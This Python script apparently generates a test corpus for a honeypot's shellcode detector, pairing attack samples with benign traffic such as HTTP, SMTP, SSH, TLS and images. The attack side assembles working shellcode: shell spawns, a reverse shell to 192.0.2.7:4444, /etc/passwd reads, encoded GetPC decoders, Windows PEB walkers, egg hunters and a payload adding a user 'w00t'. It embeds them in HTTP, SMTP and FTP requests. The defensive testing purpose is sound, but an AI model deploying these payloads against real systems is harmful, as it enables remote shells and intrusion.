#!/usr/bin/python3
#
# Copyright (c) 2026 The HoneySpy authors
#
# Permission to use, copy, modify, and distribute this software for any
# purpose with or without fee is hereby granted, provided that the above
# copyright notice and this permission notice appear in all copies.
#
# THE SOFTWARE IS PROVIDED "AS IS" AND THE AUTHOR DISCLAIMS ALL WARRANTIES
# WITH REGARD TO THIS SOFTWARE INCLUDING ALL IMPLIED WARRANTIES OF
# MERCHANTABILITY AND FITNESS. IN NO EVENT SHALL THE AUTHOR BE LIABLE FOR
# ANY SPECIAL, DIRECT, INDIRECT, OR CONSEQUENTIAL DAMAGES OR ANY DAMAGES
# WHATSOEVER RESULTING FROM LOSS OF USE, DATA OR PROFITS, WHETHER IN AN
# ACTION OF CONTRACT, NEGLIGENCE OR OTHER TORTIOUS ACTION, ARISING OUT OF
# OR IN CONNECTION WITH THE USE OR PERFORMANCE OF THIS SOFTWARE.
#

# Writes the shellcode detection corpus: attacks and benign look-alikes.
#
# Usage: /usr/bin/python3 gen_shellcode_corpus.py OUTDIR
#
# Attack samples are pwntools shellcraft payloads (plain and with pwntools'
# decoder stubs), hand-written nasm GetPC decoders and Windows-style code
# that walks the PEB, each embedded in an
# HTTP request line, an HTTP header, an SMTP command, raw after a NOP
# sled, and with no sled right after a query's "q=" and a form's "pass=".  Benign samples are the traffic a honeypot sees every day.  Every
# random choice comes from a fixed seed so that runs are comparable.
# OUTDIR/manifest.tsv lists name, class, family and context of each file.

import base64
import gzip
import os
import random
import struct
import subprocess
import sys
import tempfile
import urllib.parse
import zlib

os.environ.setdefault("PWNLIB_NOTERM", "1")

from pwn import asm, context, shellcraft  # noqa: E402
import pwnlib.encoders.amd64.delta as amd64_delta  # noqa: E402
import pwnlib.encoders.i386.ascii_shellcode as i386_ascii  # noqa: E402
import pwnlib.encoders.i386.delta as i386_delta  # noqa: E402
import pwnlib.encoders.i386.xor as i386_xor  # noqa: E402

AVOID = b"\x00\n\r \t"


def nasm(src):
    # nasm only writes files, so go through a private temporary directory.
    with tempfile.TemporaryDirectory() as d:
        s = os.path.join(d, "a.s")
        o = os.path.join(d, "a.bin")
        with open(s, "w") as f:
            f.write(src)
        subprocess.run(["nasm", "-f", "bin", "-o", o, s], check=True)
        with open(o, "rb") as f:
            return f.read()


def db(data):
    return "db " + ",".join("0x%02x" % b for b in data) + "\n"


def xor_bytes(data, key):
    return bytes(b ^ key for b in data)


# Three GetPC styles, each decoding a one-byte xor of the inner payload.
def jmp_call_pop32(inner, key):
    return nasm("BITS 32\n"
                "  jmp short get\n"
                "dec:\n  pop esi\n  push esi\n"
                "  xor ecx, ecx\n  mov cl, %d\n"
                "lp:\n  xor byte [esi], 0x%02x\n  inc esi\n  loop lp\n"
                "  ret\n"
                "get:\n  call dec\n" % (len(inner), key) +
                db(xor_bytes(inner, key)))


def call_pop32(inner, key):
    return nasm("BITS 32\n"
                "  xor ecx, ecx\n  mov cl, %d\n"
                "  call next\n"
                "next:\n  pop edi\n  add edi, byte payload - next\n"
                "lp:\n  xor byte [edi + ecx - 1], 0x%02x\n  loop lp\n"
                "payload:\n" % (len(inner), key) +
                db(xor_bytes(inner, key)))


def fnstenv_xor32(getpc, inner, key):
    # GETPC leaves the address of "start" in ebx; the loop decodes.
    return nasm("BITS 32\n"
                "start:\n" + getpc +
                "  add ebx, byte payload - start\n"
                "  push byte %d\n  pop ecx\n"
                "lp:\n  xor byte [ebx], 0x%02x\n  inc ebx\n  loop lp\n"
                "payload:\n" % (len(inner), key) +
                db(xor_bytes(inner, key)))


def fnstenv32(inner, key):
    return fnstenv_xor32("  fldz\n  fnstenv [esp - 0xc]\n  pop ebx\n",
                         inner, key)


def fnstenv_reg32(inner, key):
    # alpha_mixed's GetPC: the environment goes below another register
    # that holds esp, "fnstenv [edx - 0xc]".
    return fnstenv_xor32("  mov edx, esp\n  fcmovu st0, st3\n"
                         "  fnstenv [edx - 0xc]\n  pop ebx\n", inner, key)


# Windows code makes no system calls: it finds kernel32 through the PEB.
WIN32_PEB = ("  xor ecx, ecx\n  mov eax, [fs:ecx + 0x30]\n"
             "  mov eax, [eax + 0x0c]\n  mov esi, [eax + 0x14]\n"
             "  lodsd\n  xchg eax, esi\n  lodsd\n  mov ebx, [eax + 0x10]\n"
             "  mov edx, [ebx + 0x3c]\n  add edx, ebx\n"
             "  mov edx, [edx + 0x78]\n  add edx, ebx\n  ret\n")


def win32_peb():
    return nasm("BITS 32\n  cld\n" + WIN32_PEB)


def win32_blockapi():
    # the shape of metasploit's block_api: call/pop, then "call ebp"
    # into a routine that walks the PEB for a hashed name
    return nasm("BITS 32\n  cld\n  call start\n"
                "api:\n  pushad\n  mov ebp, esp\n  xor eax, eax\n"
                "  mov edx, [fs:eax + 0x30]\n  mov edx, [edx + 0x0c]\n"
                "  mov edx, [edx + 0x14]\n  popad\n  ret\n"
                "start:\n  pop ebp\n  push byte 1\n"
                "  lea eax, [ebp + cmd - api]\n  push eax\n"
                "  push 0x876f8b31\n  call ebp\n"
                "cmd:\n  db 'calc.exe', 0\n")


def win32_iat(lib, fn):
    # Slammer's way: the code calls through the import table of the
    # program it broke into (fixed addresses), after writing the names of
    # what it wants on the stack.
    def pushstr(t):
        t = t + b"\0" * (-len(t) % 4)
        return "".join("  push dword 0x%08x\n" % struct.unpack(
            "<I", t[i:i + 4])[0] for i in range(len(t) - 4, -4, -4))
    return nasm("BITS 32\n  xor ecx, ecx\n  push ecx\n" + pushstr(lib) +
                "  push esp\n  mov esi, 0x42ae1018\n  call [esi]\n"
                "  push ecx\n" + pushstr(fn) + "  push esp\n  push eax\n"
                "  mov esi, 0x42ae1010\n  call [esi]\n  call eax\n")


def win64_peb():
    return nasm("BITS 64\n  cld\n  xor rcx, rcx\n"
                "  mov rax, [gs:rcx + 0x60]\n  mov rax, [rax + 0x18]\n"
                "  mov rsi, [rax + 0x20]\n  lodsq\n  xchg rax, rsi\n"
                "  lodsq\n  mov rbx, [rax + 0x20]\n  ret\n")


def call_pop64(inner, key):
    return nasm("BITS 64\n"
                "  jmp short get\n"
                "dec:\n  pop rsi\n  push rsi\n"
                "  xor ecx, ecx\n  mov cl, %d\n"
                "lp:\n  xor byte [rsi], 0x%02x\n  inc rsi\n  loop lp\n"
                "  ret\n"
                "get:\n  call dec\n" % (len(inner), key) +
                db(xor_bytes(inner, key)))


def lea_rip64(inner, key):
    return nasm("BITS 64\n"
                "  lea rdi, [rel payload]\n"
                "  push byte %d\n  pop rcx\n"
                "lp:\n  xor byte [rdi + rcx - 1], 0x%02x\n  loop lp\n"
                "payload:\n" % (len(inner), key) +
                db(xor_bytes(inner, key)))


def pwn_payloads(arch):
    context.clear(arch=arch)
    ip, port = "192.0.2.7", 4444
    p = {}
    p["sh"] = asm(shellcraft.sh())
    p["execve"] = asm(shellcraft.execve("/bin/sh", ["sh", "-c", "id"], 0))
    p["connect_dupsh"] = asm(shellcraft.connect(ip, port) +
                             shellcraft.dupsh())
    p["echo_exit"] = asm(shellcraft.echo("pwned\n", 1) +
                         shellcraft.exit(0))
    p["cat"] = asm(shellcraft.cat("/etc/passwd"))
    # A stager maps executable memory and reads its second stage into
    # it; an egg hunter asks the kernel about one page after another.
    p["stager"] = asm(shellcraft.stager(4, 0x1000))
    p["egghunter"] = asm(shellcraft.egghunter(b"w00t"))
    p["echo"] = asm(shellcraft.echo("owned by w00t\n", 1))
    return p


def win32_hardcoded(cmd, api):
    # Payloads written for one service pack call an API by its address
    # (WinExec in XP SP3's kernel32 here): the command pushed four bytes
    # at a time, NUL-terminated, then "mov ebx, addr; call ebx".
    text = cmd + b"\0" * (4 - len(cmd) % 4)
    pushes = "".join("        push 0x%08x\n" % struct.unpack(
        "<I", text[i:i + 4])[0] for i in range(len(text) - 4, -1, -4))
    return nasm("""
        bits 32
        xor eax, eax
%s
        mov eax, esp
        push 1
        push eax
        mov ebx, 0x%08x
        call ebx
    """ % (pushes, api))


def win32_hardcoded_getpc(cmd, api):
    # The same with the command in the payload, found with jmp/call/pop.
    return nasm("""
        bits 32
        jmp short get
    back:
        pop eax
        xor ebx, ebx
        mov [eax + %d], bl
        push 5
        push eax
        mov edx, 0x%08x
        call edx
    get:
        call back
        db "%s#"
    """ % (len(cmd), api, cmd.decode()))


def win32_egghunter():
    # The classic Windows egg hunter: NtAccessCheckAndAuditAlarm through
    # int 0x2e tells it whether a page is there, then scasd finds the egg
    # twice.
    return nasm("""
        bits 32
    next_page:
        or dx, 0x0fff
    next_addr:
        inc edx
        push edx
        push 0x2
        pop eax
        int 0x2e
        cmp al, 0x05
        pop edx
        je next_page
        mov eax, 0x74303077
        mov edi, edx
        scasd
        jnz next_addr
        scasd
        jnz next_addr
        jmp edi
    """)


def families():
    random.seed(1)
    out = []
    p32 = pwn_payloads("i386")
    for k, v in p32.items():
        out.append(("i386_" + k, "x86", v))
    context.clear(arch="i386")
    for k in ("sh", "connect_dupsh", "cat"):
        out.append(("i386_xorenc_" + k, "x86",
                    i386_xor.encode(p32[k], AVOID)))
        out.append(("i386_deltaenc_" + k, "x86",
                    i386_delta.encode(p32[k], AVOID)))
    for k in ("sh", "connect_dupsh"):
        out.append(("i386_jmpcallpop_" + k, "x86",
                    jmp_call_pop32(p32[k], 0x5a)))
        out.append(("i386_callpop_" + k, "x86", call_pop32(p32[k], 0x37)))
        out.append(("i386_fnstenv_" + k, "x86", fnstenv32(p32[k], 0xaa)))
        out.append(("i386_fnstenvreg_" + k, "x86",
                    fnstenv_reg32(p32[k], 0x5c)))
    out.append(("win32_peb", "x86", win32_peb()))
    out.append(("win32_blockapi", "x86", win32_blockapi()))
    out.append(("win32_iat_kernel32", "x86",
                win32_iat(b"kernel32.dll", b"GetTickCount")))
    out.append(("win32_iat_ws2_32", "x86",
                win32_iat(b"ws2_32.dll", b"WSAStartup")))
    out.append(("win32_egghunter", "x86", win32_egghunter()))
    out.append(("win32_hardcoded_winexec", "x86",
                win32_hardcoded(b"calc.exe", 0x7c8623ad)))
    out.append(("win32_hardcoded_cmd", "x86",
                win32_hardcoded_getpc(b"cmd /c net user w00t p4ss /add",
                                      0x77c293c7)))
    out.append(("win64_peb", "x86_64", win64_peb()))
    p64 = pwn_payloads("amd64")
    for k, v in p64.items():
        out.append(("amd64_" + k, "x86_64", v))
    context.clear(arch="amd64")
    for k in ("sh", "connect_dupsh"):
        out.append(("amd64_deltaenc_" + k, "x86_64",
                    amd64_delta.encode(p64[k], AVOID)))
        out.append(("amd64_callpop_" + k, "x86_64",
                    call_pop64(p64[k], 0x42)))
        out.append(("amd64_learip_" + k, "x86_64", lea_rip64(p64[k], 0x99)))
    return out


def sled(rng, n, kind):
    if kind == 0:
        return b"\x90" * n
    # A mixed sled of one-byte instructions that change nothing useful.
    pool = b"\x90\x90\x90\x90\x91\x92\x93\x96\x97\x99\xf8\xf9\xfc\xf5\x9b"
    return bytes(rng.choice(pool) for _ in range(n))


def contexts(rng, sc):
    host = b"Host: www.example.com\r\n"
    ua = b"User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"
    s1 = sled(rng, rng.randint(16, 48), 0)
    yield "http_get", (b"GET /cgi-bin/" + s1 + sc + b" HTTP/1.1\r\n" +
                       host + ua + b"Accept: */*\r\n\r\n")
    s2 = sled(rng, rng.randint(16, 48), 1)
    yield "http_header", (b"GET / HTTP/1.1\r\n" + host +
                          b"Cookie: session=" + s2 + sc + b"\r\n" + ua +
                          b"\r\n")
    yield "smtp", (b"220 mail.example.com ESMTP\r\nEHLO client\r\n"
                   b"MAIL FROM:<" + b"A" * rng.randint(8, 64) + sc +
                   b"@example.com>\r\nRCPT TO:<root@example.com>\r\n")
    # No sled: the payload right after protocol text, whose bytes are
    # instructions too ("q=" is jno +0x3d, which jumps over it).
    yield "http_query", (b"GET /cgi-bin/search?q=" + sc + b" HTTP/1.0\r\n" +
                         host + b"\r\n")
    body = b"user=admin&pass=" + sc
    yield "form_post", (b"POST /login.cgi HTTP/1.1\r\n" + host +
                        b"Content-Type: application/x-www-form-urlencoded"
                        b"\r\nContent-Length: " + str(len(body)).encode() +
                        b"\r\n\r\n" + body)
    yield "raw_sled", (bytes(rng.randrange(256) for _ in
                             range(rng.randint(0, 64))) +
                       sled(rng, rng.randint(64, 300), rng.randint(0, 1)) +
                       sc + bytes(rng.randrange(256) for _ in
                                  range(rng.randint(0, 64))))


def printable_families():
    # pwntools' ascii_shellcode: printable code that builds the payload on
    # the stack with "sub eax" and "push eax", where the exploit's "jmp
    # esp" (or its layout) takes it.
    out = []
    p32 = pwn_payloads("i386")
    context.clear(arch="i386")
    for k in ("sh", "execve", "connect_dupsh", "cat"):
        out.append(("i386_ascii_" + k, "x86", i386_ascii.encode(p32[k])))
    return out


def escaped_contexts(rng, sc):
    # Binary through a text protocol, escaped as the server will decode
    # it: URL-encoding in a query and a form (quote_plus: "+" for a
    # space), and "\\x" escapes in a shell line and a query.
    s1 = sled(rng, rng.randint(0, 32), 0)
    host = b"Host: www.example.com\r\n"
    yield "url_query", (b"GET /cgi-bin/view.cgi?file=" +
                        urllib.parse.quote_from_bytes(s1 + sc).encode() +
                        b" HTTP/1.1\r\n" + host + b"\r\n")
    body = (b"user=admin&pass=" +
            urllib.parse.quote_plus(s1 + sc).encode() + b"&submit=1")
    yield "url_form", (b"POST /login.php HTTP/1.1\r\n" + host +
                       b"Content-Type: application/x-www-form-urlencoded\r\n"
                       b"Content-Length: " + str(len(body)).encode() +
                       b"\r\n\r\n" + body)
    esc = "".join("\\x%02x" % c for c in s1 + sc).encode()
    yield "hex_shell", (b"cd /tmp; echo -ne '" + esc + b"' > .x; chmod +x .x"
                        b"\r\n")
    yield "hex_query", (b"GET /index.php?cmd=" + esc + b" HTTP/1.0\r\n" +
                        host + b"\r\n")


def printable_contexts(rng, sc):
    # Where printable code goes: fields that take no binary bytes.
    host = b"Host: www.example.com\r\n"
    yield "http_path", (b"GET /scripts/" + sc + b" HTTP/1.0\r\n" + host +
                        b"\r\n")
    yield "http_query", (b"GET /cgi-bin/search?q=" + sc + b" HTTP/1.0\r\n" +
                         host + b"\r\n")
    yield "http_header", (b"GET / HTTP/1.1\r\n" + host + b"Cookie: id=" +
                          sc + b"\r\n\r\n")
    yield "smtp", (b"EHLO client\r\nMAIL FROM:<" + sc +
                   b"@example.com>\r\n")
    yield "ftp", b"USER anonymous\r\nPASS " + sc + b"\r\n"
    yield "raw", sc


# ---- benign ----------------------------------------------------------------

WORDS = ("the quick brown fox jumps over lazy dog honey spy server "
         "request response mail client network packet header value "
         "while when where which could should would about after before "
         "under over system process memory buffer string number").split()


def english(rng, n):
    s = []
    while sum(len(w) + 1 for w in s) < n:
        w = rng.choice(WORDS)
        if rng.random() < 0.1:
            w = w.capitalize()
        if rng.random() < 0.08:
            w += rng.choice([".", ",", ";", ":", "!", "?"])
        if rng.random() < 0.03:
            w += "\n"
        s.append(w)
    return " ".join(s).encode()


def http_req(rng):
    path = "/" + "/".join(rng.choice(WORDS) for _ in
                          range(rng.randint(0, 4)))
    q = "&".join("%s=%s%%20%s%%2F%%3D%d" % (rng.choice(WORDS),
                                            rng.choice(WORDS),
                                            rng.choice(WORDS),
                                            rng.randint(0, 99999))
                 for _ in range(rng.randint(0, 5)))
    r = "%s %s%s HTTP/1.1\r\nHost: %s.example.org\r\n" \
        "User-Agent: curl/7.88.1\r\nAccept: */*\r\n" % (
            rng.choice(["GET", "POST", "HEAD", "PUT"]), path,
            "?" + q if q else "", rng.choice(WORDS))
    if rng.random() < 0.5:
        r += "Authorization: Basic %s\r\n" % base64.b64encode(
            bytes(rng.randrange(256) for _ in range(24))).decode()
    if rng.random() < 0.5:
        r += "Cookie: id=%s\r\n" % bytes(rng.randrange(256) for _ in
                                         range(16)).hex()
    r += "\r\n"
    return r.encode()


def smtp_session(rng):
    body = english(rng, rng.randint(100, 2000)).decode()
    s = ("EHLO %s.example.net\r\nMAIL FROM:<%s@example.net>\r\n"
         "RCPT TO:<%s@example.com>\r\nDATA\r\nDate: Tue, 1 Jan 2026 "
         "00:00:00 +0000\r\nSubject: test %%d 100%% %s\r\nX-Mailer: swaks "
         "v20201014.0 jetmore.org/john/code/swaks/\r\n\r\n%s\r\n.\r\nQUIT"
         "\r\n" % (rng.choice(WORDS), rng.choice(WORDS), rng.choice(WORDS),
                   rng.choice(WORDS), body))
    if rng.random() < 0.3:
        s += "AUTH PLAIN %s\r\n" % base64.b64encode(
            bytes(rng.randrange(256) for _ in range(20))).decode()
    return s.encode()


def ssh_client(rng):
    def name_list(names):
        b = ",".join(names).encode()
        return struct.pack(">I", len(b)) + b
    payload = bytes([20]) + bytes(rng.randrange(256) for _ in range(16))
    payload += name_list(["curve25519-sha256", "ecdh-sha2-nistp256",
                          "diffie-hellman-group16-sha512", "ext-info-c"])
    payload += name_list(["ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256"])
    for _ in range(2):
        payload += name_list(["chacha20-poly1305@openssh.com",
                              "aes128-ctr", "aes256-gcm@openssh.com"])
    for _ in range(2):
        payload += name_list(["umac-64-etm@openssh.com",
                              "hmac-sha2-256-etm@openssh.com"])
    for _ in range(2):
        payload += name_list(["none", "zlib@openssh.com"])
    payload += name_list([]) + name_list([]) + b"\x00" + b"\x00" * 4
    pad = 4 + (-(len(payload) + 5 + 4) % 8)
    pkt = struct.pack(">IB", len(payload) + pad + 1, pad) + payload + \
        bytes(rng.randrange(256) for _ in range(pad))
    # Encrypted packets after NEWKEYS look like random bytes.
    enc = bytes(rng.randrange(256) for _ in range(rng.randint(64, 2048)))
    return b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n" + pkt + enc


def tls_client_hello(rng):
    def rnd(n):
        return bytes(rng.randrange(256) for _ in range(n))

    def ext(t, data):
        return struct.pack(">HH", t, len(data)) + data
    host = ("%s.example.com" % rng.choice(WORDS)).encode()
    sni = struct.pack(">HBH", len(host) + 3, 0, len(host)) + host
    suites = [0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030,
              0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f,
              0x0035]
    cs = b"".join(struct.pack(">H", s) for s in suites)
    exts = ext(0, sni)
    exts += ext(10, struct.pack(">HHHH", 6, 0x1d, 0x17, 0x18))
    exts += ext(11, b"\x01\x00")
    exts += ext(13, struct.pack(">H", 8) + struct.pack(">HHHH", 0x0403,
                                                     0x0804, 0x0401, 0x0503))
    exts += ext(16, b"\x00\x0c\x02h2\x08http/1.1")
    exts += ext(43, b"\x04\x03\x04\x03\x03")
    exts += ext(51, struct.pack(">HHH", 36, 0x1d, 32) + rnd(32))
    exts += ext(21, b"\x00" * rng.randint(0, 200))
    body = b"\x03\x03" + rnd(32) + b"\x20" + rnd(32) + \
        struct.pack(">H", len(cs)) + cs + b"\x01\x00" + \
        struct.pack(">H", len(exts)) + exts
    hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


def png_like(rng):
    w, h = rng.randint(1, 64), rng.randint(1, 64)
    raw = b""
    for _ in range(h):
        raw += b"\x00" + bytes(rng.randrange(256) if rng.random() < 0.5
                               else 0x80 for _ in range(w * 3))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + \
            struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" +
            chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(raw, rng.randint(1, 9))) +
            chunk(b"IEND", b""))


def jpeg_like(rng):
    # Header segments of a baseline JFIF, then entropy-coded bytes with
    # the 0xff stuffing a real encoder performs.
    out = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01" \
          b"\x00\x00"
    out += b"\xff\xdb\x00\x43\x00" + bytes(rng.randint(1, 99)
                                          for _ in range(64))
    out += b"\xff\xc0\x00\x11\x08" + struct.pack(">HH", 64, 64) + \
        b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    out += b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00"
    ent = bytearray()
    for _ in range(rng.randint(200, 20000)):
        b = rng.randrange(256)
        ent.append(b)
        if b == 0xff:
            ent.append(0)
    return out + bytes(ent) + b"\xff\xd9"


def share_files(suffix, limit):
    found = []
    for root, dirs, files in os.walk("/usr/share"):
        dirs.sort()
        for f in sorted(files):
            if f.endswith(suffix):
                found.append(os.path.join(root, f))
    found.sort()
    step = max(1, len(found) // limit)
    return found[::step][:limit]


def benign(rng):
    for i in range(400):
        n = rng.choice([16, 64, 200, 512, 1024, 1500, 4096, 16384, 65536])
        yield "random", bytes(rng.randrange(256) for _ in range(n))
    for i in range(80):
        yield "english", english(rng, rng.randint(40, 8000))
    for i in range(40):
        t = english(rng, rng.randint(40, 2000))
        yield "text_escapes", (t.replace(b" ", b"%20").replace(b".", b"%2e")
                               + b" 100% %d %s %x %%")
    for i in range(80):
        yield "http", http_req(rng)
    for i in range(60):
        yield "smtp", smtp_session(rng)
    for i in range(60):
        yield "ssh", ssh_client(rng)
    for i in range(60):
        yield "tls", tls_client_hello(rng)
    for i in range(40):
        yield "base64", base64.b64encode(bytes(rng.randrange(256) for _ in
                                               range(rng.randint(30,
                                                                 6000))))
    # Long printable runs, which the analyzer also runs as code.
    for i in range(60):
        n = rng.randint(80, 4000)
        tok = rng.choice([
            base64.urlsafe_b64encode(rng.randbytes(n)).rstrip(b"="),
            rng.randbytes(n // 2).hex().encode(),
            b".".join(base64.urlsafe_b64encode(rng.randbytes(n // 3))
                      for _ in range(3)),
            bytes(rng.choice(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop"
                             b"qrstuvwxyz0123456789") for _ in range(n))])
        yield "printable", rng.choice([
            b"GET /x?token=" + tok + b" HTTP/1.1\r\nHost: a\r\n\r\n",
            b"GET / HTTP/1.1\r\nCookie: s=" + tok + b"\r\n\r\n", tok])
    # Escaped bytes a server decodes: UTF-8 searches in other scripts,
    # and binary tokens.
    words = ["привет мир", "поиск файлов", "東京 天気", "中文 搜索 结果",
             "Ελληνικά κείμενο", "שלום עולם", "مرحبا بالعالم", "日本語"]
    for i in range(40):
        q = " ".join(rng.choice(words) for _ in range(rng.randint(1, 6)))
        yield "url_utf8", (b"GET /search?q=" +
                           urllib.parse.quote_plus(q).encode() +
                           b"&lang=ru HTTP/1.1\r\nHost: a\r\n\r\n")
    for i in range(20):
        tok = rng.randbytes(rng.randint(16, 512))
        yield "url_binary", rng.choice([
            b"GET /t?sig=" + urllib.parse.quote_from_bytes(tok).encode() +
            b" HTTP/1.1\r\nHost: a\r\n\r\n",
            b"printf '" + "".join("\\x%02x" % c for c in tok).encode() +
            b"' | od -c\r\n"])
    for i in range(40):
        yield "gzip", gzip.compress(english(rng, rng.randint(100, 20000)),
                                    mtime=0)
    for i in range(40):
        yield "png", png_like(rng)
    for i in range(40):
        yield "jpeg", jpeg_like(rng)
    for path in share_files(".png", 60):
        with open(path, "rb") as f:
            yield "png_file", f.read(1 << 20)
    for path in share_files(".jpg", 10):
        with open(path, "rb") as f:
            yield "jpeg_file", f.read(1 << 20)
    for path in share_files(".gz", 60):
        with open(path, "rb") as f:
            yield "gzip_file", f.read(1 << 20)


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: gen_shellcode_corpus.py outdir")
    outdir = sys.argv[1]
    os.makedirs(outdir, exist_ok=True)
    rng = random.Random(20260101)
    manifest = []
    n = 0

    def attacks(fams, ctxs):
        nonlocal n
        for fam, arch, sc in fams:
            for ctx, data in ctxs(rng, sc):
                name = "attack-shellcode-%d.bin" % n
                n += 1
                with open(os.path.join(outdir, name), "wb") as f:
                    f.write(data)
                manifest.append((name, "attack", fam, ctx))

    attacks(families(), contexts)
    escaped = ("i386_sh", "i386_connect_dupsh", "i386_xorenc_sh",
               "i386_fnstenv_sh", "i386_jmpcallpop_sh", "amd64_sh",
               "amd64_connect_dupsh", "amd64_callpop_sh", "win32_blockapi",
               "win32_iat_kernel32")
    attacks([f for f in families() if f[0].startswith(escaped)],
            escaped_contexts)
    attacks(printable_families(), printable_contexts)
    rng = random.Random(20260102)
    n = 0
    for fam, data in benign(rng):
        name = "benign-%d.bin" % n
        n += 1
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(data)
        manifest.append((name, "benign", fam, "-"))
    with open(os.path.join(outdir, "manifest.tsv"), "w") as f:
        for row in manifest:
            f.write("\t".join(row) + "\n")


if __name__ == "__main__":
    main()
